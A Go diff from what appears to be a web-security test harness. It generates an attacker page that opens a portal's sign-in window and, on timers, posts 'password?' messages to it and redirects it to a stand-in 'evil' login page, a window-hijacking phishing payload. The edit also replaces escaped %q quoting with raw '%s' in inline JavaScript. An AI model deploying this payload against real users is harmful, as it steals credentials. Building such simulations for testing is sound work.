@@ -221,7 +221,7 @@ func (p *Portal) senders() []trick {
 // window is the attacker's page that opens the portal's sign-in page, keeps its hands
 // on the window, and leads it away when somebody might be typing.
 func (p *Portal) window() string {
-	html := p.thief() + fmt.Sprintf(`<title>Prize</title><button onclick="w = window.open(%q, 'w')">Open the portal</button>`, p.base("portal")+"/login")
+	html := p.thief() + fmt.Sprintf(`<title>Prize</title><button onclick="w = window.open('%s', 'w')">Open the portal</button>`, p.base("portal")+"/login")
 	for _, wait := range []int{100, 500, 1500} {
 		html += fmt.Sprintf(`<button onclick="setInterval(() => { try { w.postMessage('password?', '*'); w.location = evil + '/login' } catch {} }, %d)">Wait %d</button>`, wait, wait)
 	}
